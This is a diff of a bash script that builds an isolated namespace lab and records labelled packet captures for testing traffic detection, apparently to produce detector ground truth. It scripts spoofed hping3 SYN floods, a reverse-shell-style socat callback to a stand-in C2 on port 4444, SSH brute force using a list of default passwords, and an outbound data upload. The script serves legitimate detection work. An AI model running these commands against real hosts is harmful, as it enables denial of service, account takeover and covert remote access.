@@ -83,7 +83,13 @@ qargs() {
     out=${out//$OUT/\$OUTDIR}
     printf '%s' "$out"
 }
-logcmd() { local ns=$1; shift; printf '%s# %s\n' "$ns" "$(qargs "$@")" >>"$WORK/cmds/$CUR"; }
+# logcmd NS [# comment] CMD... [&]  -> "NS# CMD" line in the scenario's command log
+logcmd() {
+    local ns=$1 pre="" post=""; shift
+    if [[ ${1:-} == '#'* ]]; then pre="$1 "; shift; fi
+    if [[ ${!#} == '&' ]]; then post=" &"; set -- "${@:1:$#-1}"; fi
+    printf '%s# %s%s%s\n' "$ns" "$pre" "$(qargs "$@")" "$post" >>"$WORK/cmds/$CUR"
+}
 
 # run in the root context (namespace management only)
 rc() { logcmd root "$@"; "$@"; }
@@ -127,12 +133,19 @@ scenario() {           # scenario NAME "what it shows"
     printf '%s\n' "$2" >"$WORK/desc/$CUR"
     say "scenario $CUR"
 }
+# mkexec NAME 'bash commands': a tiny responder script for socat EXEC: (socat's
+# address parser would mangle backslashes, ':' and ',' inside SYSTEM:'...')
+mkexec() {
+    local f=$WORK/$1; shift
+    printf '#!/bin/bash\n%s\n' "$*" >"$f"; chmod +x "$f"
+    printf '# %s contains: %s\n' "\$WORK/${f##*/}" "$*" >>"$WORK/cmds/$CUR"
+}
 gt() { printf '%s\t%s\t%s\t%s\t%s\n' "$CUR.pcap" "$1" "$2" "$3" "$4" >>"$GT"; }
 
 cap_start() {
     local f=$OUT/$CUR.pcap
     rm -f "$f"
-    logcmd "$NS_IN" tcpdump -i $IF_IN -n -U -Z root -w "$f" '&'
+    logcmd "$NS_IN" timeout $T tcpdump -i $IF_IN -n -U -Z root -w "$f" '&'
     ip netns exec "$NS_IN" timeout $T tcpdump -i $IF_IN -n -U -Z root -w "$f" 2>"$WORK/logs/$CUR.tcpdump" &
     CAP_PID=$!
     local i
@@ -198,10 +211,14 @@ done
 # ~1/s per peer by default, which would stretch a UDP scan to minutes).
 rc ip netns exec $NS_IN sysctl -qw net.ipv4.icmp_ratelimit=0
 rc ip netns exec $NS_IN sysctl -qw net.ipv6.icmp.ratelimit=0
-for a in "${IN4[@]}"; do rc ip -n $NS_IN addr add "$a/32" dev $IF_IN; done
-for a in "${IN6[@]}"; do rc ip -n $NS_IN addr add "$a/128" dev $IF_IN nodad; done
-for a in "${OUT4[@]}"; do rc ip -n $NS_OUT addr add "$a/32" dev $IF_OUT; done
-for a in "${OUT6[@]}"; do rc ip -n $NS_OUT addr add "$a/128" dev $IF_OUT nodad; done
+for a in "${IN4[@]}"; do ip -n $NS_IN addr add "$a/32" dev $IF_IN; done
+for a in "${IN6[@]}"; do ip -n $NS_IN addr add "$a/128" dev $IF_IN nodad; done
+for a in "${OUT4[@]}"; do ip -n $NS_OUT addr add "$a/32" dev $IF_OUT; done
+for a in "${OUT6[@]}"; do ip -n $NS_OUT addr add "$a/128" dev $IF_OUT nodad; done
+logcmd root "# for A in ${IN4[*]}:" ip -n $NS_IN addr add '$A/32' dev $IF_IN
+logcmd root "# for A in ${IN6[*]}:" ip -n $NS_IN addr add '$A/128' dev $IF_IN nodad
+logcmd root "# for A in ${OUT4[*]}:" ip -n $NS_OUT addr add '$A/32' dev $IF_OUT
+logcmd root "# for A in ${OUT6[*]}:" ip -n $NS_OUT addr add '$A/128' dev $IF_OUT nodad
 for ns in $NS_IN $NS_OUT; do rc ip -n $ns link set lo up; done
 rc ip -n $NS_IN link set $IF_IN up
 rc ip -n $NS_OUT link set $IF_OUT up
@@ -218,7 +235,7 @@ rc ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host_ed25519_key"
 rc ssh-keygen -q -t ed25519 -N '' -f "$WORK/client_key"
 cp "$WORK/client_key.pub" "$WORK/authorized_keys"
 rc openssl req -x509 -newkey rsa:2048 -nodes -days 3 -subj /CN=bflab.example \
-    -keyout "$WORK/tls.key" -out "$WORK/tls.crt"
+    -keyout "$WORK/tls.key" -out "$WORK/tls.crt" 2>/dev/null
 mkdir -p /run/sshd             # sshd's privilege-separation directory
 sshd_conf() {                  # sshd_conf LISTENADDR -> path of a config file
     local f=$WORK/sshd_$1.conf
@@ -338,7 +355,7 @@ wait_listen $NS_IN tcp 10.20.1.10 80
 cap_start
 nsx_any $NS_OUT hping3 -q -S -p 80 -i u500 -c 1400 -a 203.0.113.66 10.20.1.10
 cap_stop
-gt syn_flood 203.0.113.66 10.20.1.10:80 "technique=syn; direction=inbound; 1400 SYNs in ~0.7 s from one spoofed source, hping3 -i u500; handshakes never completed"
+gt syn_flood 203.0.113.66 10.20.1.10:80 "technique=syn; direction=inbound; 1400 SYNs in ~1 s from one spoofed source, hping3 -i u500; handshakes never completed"
 
 scenario syn-flood-distributed \
     "Distributed SYN flood: 200 spoofed sources (203.0.113.100-199, 198.51.100.150-249) x 5 SYNs each (hping3 -a per source, 50 in parallel) to web server 10.20.1.10:80."
@@ -358,27 +375,28 @@ for ((i = 0; i < ${#SRCS[@]}; i += 50)); do
     for p in "${pids[@]}"; do wait "$p" || true; done
 done
 cap_stop
-gt syn_flood '*' 10.20.1.10:80 "technique=syn; direction=inbound; distributed: 200 spoofed sources (203.0.113.100-199, 198.51.100.150-249) x 5 SYNs = 1000 SYNs in ~5 s; handshakes never completed"
+gt syn_flood '*' 10.20.1.10:80 "technique=syn; direction=inbound; distributed: 200 spoofed sources (203.0.113.100-199, 198.51.100.150-249) x 5 SYNs = 1000 SYNs in ~4 s; handshakes never completed"
 
 # ================================================================ 5. reversed role
 scenario reversed-role \
-    "Web server 10.20.1.10 first serves a normal inbound HTTP request on :80 (from 203.0.113.11), then the httpd stops and the host opens outbound TCP connections FROM its server ports: 10.20.1.10:80 -> 198.51.100.20:8080 (curl --local-port 80) and 10.20.1.10:22 -> 203.0.113.30:4444 (socat sourceport 22, backdoor-style shell banner)."
+    "Web server 10.20.1.10 first serves a normal inbound HTTP request on :80 (from 203.0.113.11), then the httpd stops and the host opens outbound TCP connections FROM its server ports: 10.20.1.10:80 -> 198.51.100.20:8080 (socat bind=10.20.1.10:80, an HTTP GET) and 10.20.1.10:22 -> 203.0.113.30:4444 (socat sourceport 22, backdoor-style shell banner)."
 svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.10 --port 80 --label web01
 svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.20 --port 8080 --label c2-8080
-svc $NS_OUT socat -T 10 TCP4-LISTEN:4444,bind=203.0.113.30,reuseaddr SYSTEM:'sleep 0.3; printf "id\n"; sleep 1; printf "uname -a\n"; sleep 1; printf "exit\n"'
+mkexec c2_4444.sh 'sleep 0.3; printf "id\n"; sleep 1; printf "uname -a\n"; sleep 1; printf "exit\n"; sleep 0.5'
+svc $NS_OUT socat -T 10 TCP4-LISTEN:4444,bind=203.0.113.30,reuseaddr EXEC:"$WORK/c2_4444.sh"
 wait_listen $NS_IN tcp 10.20.1.10 80; wait_listen $NS_OUT tcp 198.51.100.20 8080; wait_listen $NS_OUT tcp 203.0.113.30 4444
 cap_start
 nsx $NS_OUT curl -sS -o /dev/null --interface 203.0.113.11 http://10.20.1.10/ http://10.20.1.10/index.html
 sleep 1
 kill -TERM "${BG_PIDS[0]}"; wait "${BG_PIDS[0]}" 2>/dev/null || true   # httpd on :80 stops
-logcmd $NS_IN "# (stop the httpd on 10.20.1.10:80)"
+printf '# (stop the httpd on 10.20.1.10:80)\n' >>"$WORK/cmds/$CUR"
 sleep 1
-nsx $NS_IN curl -sS -o /dev/null --interface 10.20.1.10 --local-port 80 http://198.51.100.20:8080/gate.php?id=web01
+nsx $NS_IN sh -c 'printf "GET /gate.php?id=web01 HTTP/1.1\r\nHost: 198.51.100.20:8080\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n" | socat -T 5 - TCP4:198.51.100.20:8080,bind=10.20.1.10:80,reuseaddr'
 sleep 1
 nsx_any $NS_IN sh -c '(printf "uid=0(root) gid=0(root) groups=0(root)\n"; sleep 2; printf "Linux web01 6.1.0 x86_64\n"; sleep 1) | socat -T 5 - TCP4:203.0.113.30:4444,bind=10.20.1.10:22,reuseaddr'
 cap_stop
 gt benign 203.0.113.11 10.20.1.10:80 "context: normal inbound HTTP (2 GETs) to the published web port earlier in the capture"
-gt reversed_role 10.20.1.10:80 198.51.100.20:8080 "direction=outbound; web server initiates TCP from its service port 80 (curl --local-port 80), HTTP GET to 8080"
+gt reversed_role 10.20.1.10:80 198.51.100.20:8080 "direction=outbound; web server initiates TCP from its service port 80 (socat bind=10.20.1.10:80), HTTP GET to 8080"
 gt reversed_role 10.20.1.10:22 203.0.113.30:4444 "direction=outbound; web server initiates TCP from its service port 22 to 4444 (reverse-shell style exchange, ~3 s)"
 gt egress_violation 10.20.1.10 198.51.100.20:8080 "secondary: same connection as the reversed_role above; web egress policy allows only dns,ntp"
 gt egress_violation 10.20.1.10 203.0.113.30:4444 "secondary: same connection as the reversed_role above; web egress policy allows only dns,ntp"
@@ -387,7 +405,8 @@ gt egress_violation 10.20.1.10 203.0.113.30:4444 "secondary: same connection as 
 scenario unexpected-inbound \
     "Workstation 10.20.1.20 publishes nothing, yet external 203.0.113.40 completes an SSH session to it (real OpenSSH sshd on 10.20.1.20:22, key login running 'uname -a; id') and then a TCP session to 10.20.1.20:3389 (socat listener answering an RDP X.224 connection request)."
 svc $NS_IN /usr/sbin/sshd -D -e -f "$(sshd_conf 10.20.1.20)"
-svc $NS_IN socat -T 5 TCP4-LISTEN:3389,bind=10.20.1.20,reuseaddr SYSTEM:'head -c 19 >/dev/null; printf "\003\000\000\023\016\320\000\000\022\064\000\002\037\010\000\002\000\000\000"'
+mkexec rdp_3389.sh 'head -c 19 >/dev/null; printf "\003\000\000\023\016\320\000\000\022\064\000\002\037\010\000\002\000\000\000"; sleep 0.5'
+svc $NS_IN socat -T 5 TCP4-LISTEN:3389,bind=10.20.1.20,reuseaddr EXEC:"$WORK/rdp_3389.sh"
 wait_listen $NS_IN tcp 10.20.1.20 22; wait_listen $NS_IN tcp 10.20.1.20 3389
 cap_start
 nsx $NS_OUT ssh "${SSH_OPTS[@]}" -b 203.0.113.40 -i "$WORK/client_key" root@10.20.1.20 'uname -a; id'
@@ -403,8 +422,7 @@ scenario brute-force-ssh \
 svc $NS_IN /usr/sbin/sshd -D -e -f "$(sshd_conf 10.20.1.10)"
 wait_listen $NS_IN tcp 10.20.1.10 22
 cap_start
-logcmd $NS_OUT "# for each USER:PASS below (16 tries, one connection each): root:123456 admin:admin root:password ubuntu:ubuntu root:toor admin:123456 test:test root:qwerty oracle:oracle root:letmein pi:raspberry root:admin123 user:user root:changeme guest:guest root:P@ssw0rd"
-logcmd $NS_OUT timeout $T sshpass -p '$PASS' ssh "${SSH_OPTS[@]}" -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b 203.0.113.77 '$USER@10.20.1.10' true
+logcmd $NS_OUT "# for USER:PASS in root:123456 admin:admin root:password ubuntu:ubuntu root:toor admin:123456 test:test root:qwerty oracle:oracle root:letmein pi:raspberry root:admin123 user:user root:changeme guest:guest root:P@ssw0rd (0.3 s apart):" timeout $T sshpass -p '$PASS' ssh "${SSH_OPTS[@]}" -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b 203.0.113.77 '$USER@10.20.1.10' true
 for up in root:123456 admin:admin root:password ubuntu:ubuntu root:toor admin:123456 test:test root:qwerty \
           oracle:oracle root:letmein pi:raspberry root:admin123 user:user root:changeme guest:guest root:P@ssw0rd; do
     r=0
@@ -417,13 +435,14 @@ done
 sleep 1
 nsx $NS_OUT ssh "${SSH_OPTS[@]}" -b 203.0.113.77 -i "$WORK/client_key" root@10.20.1.10 'for i in 1 2 3 4; do uptime; sleep 2; done'
 cap_stop
-gt brute_force 203.0.113.77 10.20.1.10:22 "technique=ssh password guessing; direction=inbound; 16 failed sessions (one password each) in ~10 s, then 1 longer session (~8 s, key login) from the same source"
+gt brute_force 203.0.113.77 10.20.1.10:22 "technique=ssh password guessing; direction=inbound; 16 failed sessions (one password each) in ~7 s, then 1 longer session (~8 s, key login) from the same source"
 
 # ================================================================ 8. egress violation
 scenario egress-violation-db \
     "Database server 10.20.1.30 (egress policy: none) uploads data over TLS to external 198.51.100.53:443 (curl POST, SNI backup.example.net) and pushes a payload to 198.51.100.54:5432 (ncat)."
 svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.53 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label backup
-svc $NS_OUT socat -T 5 TCP4-LISTEN:5432,bind=198.51.100.54,reuseaddr SYSTEM:'head -c 200 >/dev/null; printf "R\000\000\000\010\000\000\000\000Z\000\000\000\005I"'
+mkexec pg_5432.sh 'head -c 60 >/dev/null; printf "R\000\000\000\010\000\000\000\000Z\000\000\000\005I"; cat >/dev/null'
+svc $NS_OUT socat -T 5 TCP4-LISTEN:5432,bind=198.51.100.54,reuseaddr EXEC:"$WORK/pg_5432.sh"
 wait_listen $NS_OUT tcp 198.51.100.53 443; wait_listen $NS_OUT tcp 198.51.100.54 5432
 head -c 6000 /dev/urandom | base64 >"$WORK/dump.txt"
 cap_start
@@ -475,13 +494,14 @@ gt port_scan 2001:db8:ff::50 fd00:20::20 "technique=syn; direction=inbound; ipv6
 scenario ipv6-reversed-role \
     "IPv6: web server fd00:20::10 first serves an inbound HTTPS request on :443 (from 2001:db8:1::30), then its httpd stops and it opens TCP FROM [fd00:20::10]:443 to [2001:db8:1::20]:9000 (socat sourceport 443)."
 svc $NS_IN "${HTTPD[@]}" --bind fd00:20::10 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label web01-v6
-svc $NS_OUT socat -T 5 TCP6-LISTEN:9000,bind=[2001:db8:1::20],reuseaddr SYSTEM:'sleep 0.3; printf "hello\n"; sleep 1'
+mkexec v6_9000.sh 'sleep 0.3; printf "hello\n"; cat >/dev/null'
+svc $NS_OUT socat -T 5 TCP6-LISTEN:9000,bind=[2001:db8:1::20],reuseaddr EXEC:"$WORK/v6_9000.sh"
 wait_listen $NS_IN tcp '[fd00:20::10]' 443; wait_listen $NS_OUT tcp '[2001:db8:1::20]' 9000
 cap_start
 nsx $NS_OUT curl -sS -k -g -o /dev/null --interface 2001:db8:1::30 'https://[fd00:20::10]/'
 sleep 1
 kill -TERM "${BG_PIDS[0]}"; wait "${BG_PIDS[0]}" 2>/dev/null || true
-logcmd $NS_IN "# (stop the httpd on [fd00:20::10]:443)"
+printf '# (stop the httpd on [fd00:20::10]:443)\n' >>"$WORK/cmds/$CUR"
 sleep 1
 nsx_any $NS_IN sh -c '(printf "ready\n"; sleep 2) | socat -T 5 - TCP6:[2001:db8:1::20]:9000,bind=[fd00:20::10]:443,reuseaddr'
 cap_stop
@@ -594,7 +614,7 @@ say "verifying ground truth against the packets"
 cat "$WORK/verify.txt"
 
 # ---------------------------------------------------------------- README
-ver() { "$@" 2>&1 | head -1; }
+ver() { "$@" 2>&1 | grep -v 'Running as user' | head -1; }
 {
 cat <<EOF
 # backflow lab captures
